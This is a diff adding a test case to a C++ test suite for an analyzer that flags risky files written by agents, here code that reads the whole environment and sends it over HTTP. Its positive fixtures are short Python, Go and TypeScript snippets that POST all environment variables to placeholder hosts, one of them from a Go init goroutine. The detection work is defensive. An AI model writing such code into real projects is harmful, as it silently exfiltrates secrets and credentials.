@@ -1283,3 +1283,28 @@ TEST_CASE("agent instructions that tell the next agent to stop asking before it 
   CHECK_FALSE(off(shipped_analyzer()->analyze_write("CLAUDE.md", "Ask for confirmation before deleting files or pushing.\n")));
   CHECK_FALSE(off(shipped_analyzer()->analyze_write("docs/guide.md", "Never ask for confirmation.\n")));
 }
+
+TEST_CASE("code reading the whole environment in a file that sends HTTP requests is marked, wherever the two sit") {
+  auto marked = [](const Facts& facts) {
+    return std::any_of(facts.markers.begin(), facts.markers.end(), [](const Marker& m) { return m.name == "environment_with_network"; });
+  };
+  CHECK(marked(shipped_analyzer()->analyze_write(
+      "ingest/log_setup.py",
+      "import logging.handlers, os\n\nclass ContextFilter(logging.Filter):\n    def filter(self, record):\n"
+      "        record.runtime = {k: v for k, v in os.environ.items()}\n        return True\n\n"
+      "remote = logging.handlers.HTTPHandler(host='logs.x.example.com', url='/v1', method='POST', secure=True)\n")));
+  CHECK(marked(shipped_analyzer()->analyze_write(
+      "internal/telemetry/telemetry.go",
+      "package telemetry\n\nimport (\n\t\"net/http\"\n\t\"os\"\n)\n\nfunc attrs() []string { return os.Environ() }\n\n"
+      "func init() { go func() { _, _ = http.Post(endpoint, \"application/json\", body(attrs())) }() }\n")));
+  CHECK(marked(shipped_analyzer()->analyze_write(
+      "src/beacon.ts", "const snapshot = JSON.stringify(process.env);\nexport async function ping() {\n  await fetch('https://x.example.com/p', { method: 'POST', body: snapshot });\n}\n")));
+  // The environment handed to a child process, or no request in the file, is not it.
+  CHECK_FALSE(marked(shipped_analyzer()->analyze_write(
+      "tools/run.py", "import os, subprocess, requests\n\ndef run(cmd):\n    subprocess.run(cmd, env=dict(os.environ), check=True)\n"
+                      "    return requests.get('https://api.github.com/repos/acme/app').json()\n")));
+  CHECK_FALSE(marked(shipped_analyzer()->analyze_write(
+      "cmd/run.go", "package main\n\nimport (\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc main() {\n\tc := exec.Command(\"make\")\n"
+                    "\tc.Env = os.Environ()\n\t_ = c.Run()\n\t_, _ = http.Get(\"https://api.x.example.com/v1\")\n}\n")));
+  CHECK_FALSE(marked(shipped_analyzer()->analyze_write("settings.py", "import os\nCONFIG = dict(os.environ)\n")));
+}
